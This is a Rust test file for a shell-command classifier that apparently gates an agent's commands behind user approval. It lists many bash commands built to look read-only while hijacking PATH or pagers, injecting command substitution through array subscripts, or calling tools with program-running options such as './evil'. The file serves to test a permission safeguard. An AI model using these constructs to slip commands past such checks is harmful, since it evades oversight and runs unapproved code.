use pretty_assertions::assert_eq;

use super::*;

fn words(text: &str) -> Vec<Word> {
    text.split_whitespace().map(Word::literal).collect()
}

#[test]
fn interpreters_read_stdin_unless_given_a_script() {
    let operand = |name: &str, args: &str| {
        let args = words(args);
        script_operand(name, &args).map(|w| w.text.clone())
    };
    assert_eq!(operand("bash", ""), None);
    assert_eq!(operand("bash", "-"), None);
    assert_eq!(
        operand("bash", "-x -o pipefail install.sh"),
        Some("install.sh".to_owned())
    );
    assert_eq!(operand("bash", "-s -- --flag"), None);
    assert_eq!(operand("python3", "-c print(1)"), Some("-c".to_owned()));
    assert_eq!(operand("python3", "-u"), None);
    assert_eq!(operand("source", "env.sh"), Some("env.sh".to_owned()));
}

#[test]
fn echo_printf_and_heredoc_cat_emit_their_text() {
    let emitted = |text: &str, stdin: Option<&str>| {
        let command = Command {
            text,
            assignments: Vec::new(),
            argv: words(text),
            stdin_text: None,
            stdin_fetches: false,
        };
        emitted_text(&command, stdin)
    };
    assert_eq!(
        emitted("echo -n rm -rf /", None),
        Some("rm -rf /".to_owned())
    );
    assert_eq!(emitted("printf ls\\n", None), Some("ls\n".to_owned()));
    assert_eq!(emitted("cat", Some("rm x\n")), Some("rm x\n".to_owned()));
    assert_eq!(emitted("cat file", Some("rm x\n")), None);
}

/// Issue 22: commands the read-only set let through although they run a program, write a
/// file or change how later commands are found. Each must ask; the second table must stay
/// silent, so the fix is not "everything asks".
#[test]
fn read_only_lookalikes_that_run_programs_or_write_files_ask() {
    let table = [
        // Command lookup.
        "hash -p /bin/rm ls; ls x",
        "builtin hash -p ./evil ls; ls",
        "PATH=.:$PATH ls",
        "PATH=.; ls",
        "export PATH=.:$PATH; ls",
        "export 'PATH=.'; ls",
        "declare -x PATH=.; ls",
        "env PATH=. ls",
        "for PATH in .; do ls; done",
        "read PATH < dirs.txt; ls",
        "printf -v PATH %s .; ls",
        "unset PATH; ls",
        ": ${GIT_PAGER:=./evil}; git log",
        "PATH[0]=.; ls",
        // Prefix assignments that load code or change what a program reads.
        "LD_LIBRARY_PATH=. ls",
        "BASH_ENV=./evil ls",
        "IFS=/ ls",
        "PAGER=./evil git log",
        "GIT_PAGER=./evil git log",
        "GIT_EXTERNAL_DIFF=./evil git diff",
        "GIT_CONFIG_GLOBAL=./evil git status",
        "LESSOPEN='|./evil %s' ls",
        "PYTHONPATH=. ls",
        "RIPGREP_CONFIG_PATH=./evil rg foo",
        "KUBECONFIG=./evil kubectl get pods",
        "HOME=/tmp/evil git status",
        "FOO=bar printenv FOO",
        "https_proxy=http://evil git ls-remote origin",
        "PS4='$(./evil)'; set -x; ls",
        "set -k; ls",
        "shopt -so keyword; bash -c ls BASH_ENV=./evil",
        // Array subscripts evaluated as arithmetic run their substitutions.
        "test -v 'a[$(touch x)]'",
        "[ -v 'a[$(touch x)]' ]",
        "[[ -v 'a[$(touch x)]' ]]",
        "[[ 'a[$(touch x)]' -eq 0 ]]",
        "x='a[$(touch x)]'; [[ $x -eq 0 ]]",
        "x='a[$(touch x)]'; [ -v \"$x\" ]",
        "x=-v; y='a[$(touch m)]'; [ $x $y ]",
        "x='a -a -v b[$(id>m)]'; [ -n $x ]",
        "x='a -a -v b[$(id>m)]'; test -n $x",
        "x='a[$(touch m)]'; echo $((x))",
        "x='a[$(touch m)]'; (( x ))",
        "x='a[$(touch m)]'; y=x; echo $((y))",
        "x='a[$(touch m)]'; echo ${!x}",
        "x='$(touch m)'; echo ${x@P}",
        "x='a[$(touch m)]'; echo ${v:x}",
        "x='a[$(touch m)]'; echo ${v[x]}",
        "x='a[$(touch m)]'; for ((i=x; i<1; i++)); do :; done",
        "x='a[$(touch m)]'; bash -c 'echo $((x))'",
        "x='a[$(touch m)]' bash -c 'echo $((x))'",
        "echo $(( 'a[$(touch m)]' ))",
        "echo ${a['$(touch m)']}",
        "a=(['$(touch m)']=1)",
        "a['$(touch m)']=1",
        "read n < numbers.txt; echo $((n))",
        "n=$(cat numbers.txt); echo $((n + 1))",
        "for n in *; do echo $((n)); done",
        "echo $(( $(cat numbers.txt) ))",
        "f() { echo $(($1)); }; f 'a[$(touch m)]'",
        "ls 'a[$(touch m)]'; echo $((_))",
        "declare -i y; read y < numbers.txt",
        "x='a[$(touch m)]'; declare -i y=x",
        // Name references and builtins taking a variable name.
        "declare -n r='a[$(touch x)]'; echo $r",
        "local -n r='a[$(touch x)]'",
        "typeset -n r='a[$(touch x)]'",
        "declare -n r; r=PATH",
        "declare -n r=PATH; r=.",
        "printf -v 'a[$(touch x)]' %s 1",
        "read 'a[$(touch x)]' <<< 1",
        "read -a 'a[$(touch x)]' <<< 1",
        "unset 'a[$(touch x)]'",
        "declare 'a[$(touch x)]=1'",
        "getopts a 'a[$(touch x)]'",
        "wait -p 'a[$(touch x)]'",
        "x='a[$(touch x)]'; read $x",
        // git options that run a program or write a file.
        "git grep --open-files-in-pager=./evil foo",
        "git grep --open=./evil foo",
        "git grep -O foo",
        "git grep -O./evil foo",
        "git grep foo *",
        "git log --output=/tmp/x",
        "git diff --output=x",
        "git diff --outp=x",
        "git diff --ext-diff",
        "git log -p --textconv",
        "git show --ext-diff HEAD",
        "git stash show --ext-diff",
        "git cat-file --textconv HEAD:x",
        "git cat-file --filters HEAD:x",
        "git ls-remote --upload-pack=./evil .",
        "git -c core.pager=./evil log",
        "git -c x=y status",
        "git --exec-path=. status",
        "git help -w log",
        "x=--output=y; git diff $x",
        // Other read-only tools with program-running or file-writing options.
        "sdiff -o out a b",
        "sdiff --output=out a b",
        "sdiff --diff-program=./evil a b",
        "rg --pre ./evil foo",
        "rg --pre=./evil foo",
        "rg --hostname-bin=./evil foo",
        "rg foo *",
        "x=--pre=sh; rg $x foo",
        "rg {--pre=sh,foo} .",
        "rg foo${IFS}--pre=sh .",
        "rg ${nothing:---pre=sh} foo .",
        "cd 'x --pre=sh' && rg foo $PWD",
        "rg -e -- --pre=sh .",
        "sort {-o,out} f",
        "git grep -e -- -O foo",
        "ls | xargs rg foo",
        "ag --pager=./evil foo",
        "ack --pager=./evil foo",
        "ack --output='$&' foo",
        "diff3 --diff-program=./evil a b c",
        "sort --compress-program=./evil f",
        "sort --compress=./evil f",
        "sort -o out f",
        "sort --output=out f",
        "sort --out=out f",
        "tree -o out",
        "tree -R -H . -L 1",
        "file -C -m magic",
        "nm --plugin ./evil.so a.out",
        "ss -K",
        "history -w out",
        "date --se 2020-01-01",
        "tail --fo log",
        "xxd a b",
        "uniq a b",
        "uniq *",
        "base64 -o out in",
        "hostname -Fnames",
        "time -o out ls",
        "/usr/bin/time --output=out ls",
        "flock lock ls",
        "yq --in-place . f.yaml",
        "yq -i . f.yaml",
        "x=-delete; find . $x",
        "find * -name y",
        "docker --config ./evil ps",
        "kubectl get pods --kubeconfig=./evil",
        "kubectl get pods --server=https://evil.example",
        "docker compose config -o out",
        "ip -batch cmds",
        "ip -b cmds",
        "go build -toolexec=./evil ./...",
        "go vet -vettool=./evil ./...",
        "go build -o /tmp/x .",
        "cargo check --config 'build.rustc-wrapper=\"./evil\"'",
        "journalctl --vac=1",
    ];
    let silent: Vec<&str> = table
        .iter()
        .copied()
        .filter(|c| classify_top(c).is_safe())
        .collect();
    assert_eq!(silent, Vec::<&str>::new(), "these must ask");

    let still_safe = [
        "git grep foo",
        "git grep -n foo -- '*.rs'",
        "git log --oneline -5",
        "git diff HEAD~1 --stat",
        "git show HEAD:Cargo.toml",
        "rg foo src",
        "rg -n foo src/*.rs",
        "rg -z foo logs",
        "sort file",
        "sort -n -k2 file | uniq -c",
        "ls -la",
        "tree src",
        "tree -L 2 src",
        "sdiff a b",
        "diff3 a b c",
        "ag foo",
        "ack foo",
        "file Cargo.toml",
        "nm a.out",
        "ss -tln",
        "base64 file",
        "date +%F",
        "tail -n 5 log",
        "uniq file",
        "xxd file",
        "hash",
        "hash -r",
        "history",
        "history 20",
        "set -euo pipefail",
        "shopt -s nullglob",
        "time ls",
        "echo $((1 + 2))",
        "echo $((COLUMNS / 2))",
        "n=5; echo $((n * 2))",
        "i=0; i=$((i + 1)); echo $i",
        "for ((i = 0; i < 3; i++)); do echo $i; done",
        "for i in 1 2 3; do echo $((i * 2)); done",
        "for i in {1..3}; do echo $((i + 1)); done",
        "echo ${#arr[@]} ${arr[0]}",
        "[[ -v HOME ]]",
        "[[ $COLUMNS -gt 80 ]]",
        "test -v PATH",
        "[ -n \"$HOME\" ]",
        "for f in *.rs; do [ -f \"$f\" ] && wc -l \"$f\"; done",
        "x=$(git rev-parse HEAD); [ \"$x\" = abc ]",
        "n=$(wc -l < f); [ \"$n\" -gt 10 ] && echo big",
        "[ -z $HOME ] || ls",
        "read -r line < file; echo \"$line\"",
        "while read -r line; do echo \"$line\"; done < input.txt",
        "declare -a arr=(1 2 3)",
        "declare -n ref=items",
        "export LANG=C",
        "printf -v out '%s' hi",
        "unset tmp",
        "foo=bar printenv foo",
        "LC_ALL=C sort data.txt",
        "NO_COLOR=1 ls",
        "find . -name '*.rs' | xargs wc -l",
        "find \"$HOME\" -name '*.log'",
        "x=1; echo $x",
        "echo '$(not run)'",
    ];
    let asking: Vec<&str> = still_safe
        .iter()
        .copied()
        .filter(|c| !classify_top(c).is_safe())
        .collect();
    assert_eq!(asking, Vec::<&str>::new(), "these must stay silent");
}
